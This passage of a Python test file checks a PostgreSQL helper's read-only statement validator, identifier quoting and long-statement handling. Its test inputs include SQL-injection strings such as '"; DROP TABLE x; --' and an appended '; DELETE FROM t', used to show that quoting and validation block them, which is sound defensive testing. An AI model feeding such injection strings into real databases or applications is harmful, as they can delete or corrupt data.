    with pytest.raises(InfraValidationError) as caught:
        validate_statement(sql, allow=READ_ONLY, operation="fetch")
    shown = caught.value.details["statement"]
    assert isinstance(shown, str)
    assert len(shown) == 203
    assert shown.endswith("...")


def test_unknown_access_names_are_a_programming_error() -> None:
    with pytest.raises(ValueError, match="'everything'"):
        validate_statement("SELECT 1", allow=["everything"], operation="fetch")


# --- quoting ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "quoted"),
    [
        ("users", '"users"'),
        ("Users", '"Users"'),
        ("select", '"select"'),
        ('a"b', '"a""b"'),
        ('"; DROP TABLE x; --', '"""; DROP TABLE x; --"'),
        ("größe", '"größe"'),
        ("a.b", '"a.b"'),
        ("x" * MAX_IDENTIFIER_BYTES, '"' + "x" * MAX_IDENTIFIER_BYTES + '"'),
    ],
)
def test_quote_identifier(name: str, quoted: str) -> None:
    assert quote_identifier(name) == quoted
    # The quoted name lexes as one identifier and nothing else.
    (info,) = describe_statements(f"SELECT * FROM {quoted}")  # noqa: S608 - the point
    assert info.tables == (quoted,)


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("", "empty identifier"),
        ("a\x00b", "NUL character"),
        ("a\ud800", "lone surrogate"),
        ("x" * (MAX_IDENTIFIER_BYTES + 1), "64 bytes; PostgreSQL truncates names longer than 63"),
        ("é" * 32, "64 bytes"),
    ],
)
def test_quote_identifier_rejects(name: str, reason: str) -> None:
    with pytest.raises(InfraValidationError, match=reason) as caught:
        quote_identifier(name)
    assert caught.value.transport is EnumTransport.POSTGRES
    assert caught.value.operation == "quote_identifier"


def test_quote_identifier_length_limit_is_adjustable() -> None:
    assert quote_identifier("x" * 100, max_bytes=127) == '"' + "x" * 100 + '"'


def test_quote_qualified_name() -> None:
    assert quote_qualified_name("public", "users") == '"public"."users"'
    assert quote_qualified_name("db", "s", 'T"x') == '"db"."s"."T""x"'
    assert quote_qualified_name("t") == '"t"'
    with pytest.raises(InfraValidationError, match="1 to 3 parts, got 0"):
        quote_qualified_name()
    with pytest.raises(InfraValidationError, match="1 to 3 parts, got 4"):
        quote_qualified_name("a", "b", "c", "d")
    with pytest.raises(InfraValidationError, match="empty identifier"):
        quote_qualified_name("public", "")


# --- long texts ------------------------------------------------------------------------------


def test_long_texts_are_validated_without_the_cache() -> None:
    _describe_cached.cache_clear()
    filler = "1" + ", 1" * CACHE_MAX_TEXT_LENGTH
    sql = f"SELECT {filler} FROM t WHERE pw = 'hunter2'"  # noqa: S608 - the input
    info = validate_statement(sql, allow=READ_ONLY, operation="fetch")
    assert info.kind == "SELECT"
    with pytest.raises(InfraValidationError) as caught:
        validate_statement(sql + "; DELETE FROM t", allow=READ_ONLY, operation="fetch")  # noqa: S608
    assert caught.value.details["statement"] == ("SELECT ?" + ", ?" * 100)[:200] + "..."
    assert caught.value.message == "2 statements (SELECT; DELETE); only one allowed"
    with pytest.raises(InfraValidationError, match="unterminated quoted string"):
        validate_statement(sql + "; SELECT 'open", allow=READ_ONLY, operation="fetch")
    with pytest.raises(InfraValidationError, match="row-locking clause FOR UPDATE"):
        validate_statement(sql + " FOR UPDATE", allow=READ_ONLY, operation="fetch")
    assert _describe_cached.cache_info().currsize == 0


def test_gc_pause_leaves_a_disabled_collector_disabled() -> None:
    gc.disable()
    try:
        with gc_paused():
            assert not gc.isenabled()
        assert not gc.isenabled()
        assert len(tokenize("SELECT 1 " * GC_PAUSE_LENGTH)) == 4 * GC_PAUSE_LENGTH
    finally:
        gc.enable()
    with gc_paused():
        assert not gc.isenabled()
    assert gc.isenabled()
